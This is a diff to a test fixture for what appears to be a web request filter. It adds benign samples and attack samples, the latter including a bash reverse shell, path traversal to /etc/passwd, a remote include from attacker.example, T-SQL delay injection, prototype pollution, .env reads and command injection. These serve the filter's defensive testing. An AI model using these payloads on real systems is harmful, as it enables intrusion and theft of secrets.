@@ -101,9 +101,21 @@ const BENIGN: Sample[] = [
   json('a constructor member that is no prototype path', '/api/shapes', { constructor: 'Vec3', prototype: { methods: ['add'] } }),
   { label: 'checkout form', path: '/checkout', type: 'application/x-www-form-urlencoded', body: new URLSearchParams({ card_holder: "O'NEIL JI-WOO", address: '123 Main St. #4B; Bldg 3', note: 'Ring twice & leave @ door (side gate)', coupon: 'BLACK-FRIDAY_2026!' }).toString() },
   { label: 'autocomplete keystrokes', path: `/api/autocomplete?q=${q("o'bri")}&q2=${q('select t')}&q3=${q('a|b')}&q4=${q('${')}&q5=${q('x<y>z')}` },
+  // code and links in documents and reports (refused before the eleventh round)
+  json('issue comment: a screenshot below a line, a fenced shell block, an import path', '/api/issues/42/comments', { body: 'Works now, see the screenshot:\n\n<img width="800" alt="image" src="https://github.com/user-attachments/assets/0f1e2d3c">\n\nI ran:\n\n```bash\nrm -rf node_modules && npm install\nkubectl exec -it api-0 -- /bin/sh\n```\n\nand `import Button from "../../components/Button"` resolves again.' }),
+  json('support ticket with a stack trace', '/api/tickets', { description: 'After the upgrade the page is blank. Console says:\n\n    TypeError: x is undefined\n        at render (../../src/components/List.jsx:12:23)\n\nPlease advise, thanks!' }),
+  json('Amplitude event properties', '/2/httpapi', { api_key: 'k', events: [{ event_type: 'Product Viewed', event_properties: { 'page url': 'https://shop.example.com/p/1?ref=home', page_location: 'https://shop.example.com/p/1' } }] }),
+  { label: 'lead form with the landing page', path: '/forms/contact', type: 'application/x-www-form-urlencoded', body: new URLSearchParams({ email: 'kim@example.com', landing_page: 'https://www.example.com/pricing?plan=pro', exit_page: 'https://www.example.com/contact' }).toString() },
+  { label: 'RSS feed with namespace declarations', path: '/feeds/import', type: 'application/rss+xml', body: '<?xml version="1.0"?><rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:dc="http://purl.org/dc/elements/1.1/"><channel><title>Blog</title><item><title>2.0</title><dc:creator>Kim</dc:creator></item></channel></rss>' },
+  json('a T-SQL question', '/api/search', { q: 'waitfor delay sql server', body: 'How do I use WAITFOR DELAY inside a loop without blocking other sessions?' }),
 ];
 
 const ATTACKS: Sample[] = [
+  // the same places holding attacks
+  json('a reverse shell in a fenced block', '/api/issues/42/comments', { body: 'Run this please:\n\n```\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n```\n\nthanks a lot' }),
+  json('traversal to a secret quoted in a ticket', '/api/tickets', { description: 'Please open ../../../../etc/passwd and paste it here for me' }),
+  json('a remote include under a page name', '/api/render', { page: 'http://attacker.example/shell.txt?' }),
+  json('a T-SQL delay', '/api/search', { q: "1'; WAITFOR DELAY '0:0:5'--" }),
   json('constructor.prototype in a JSON body', '/api/profile', [{ meta: { prototype: 1 } }, { settings: { constructor: { prototype: { isAdmin: true } } } }]),
   { label: 'secret below the web root', path: `/download?file=${q('/var/www/html/.env')}` },
   { label: 'Windows command with a drive path', path: `/ping?host=${q('127.0.0.1 & dir c:\\')}` },
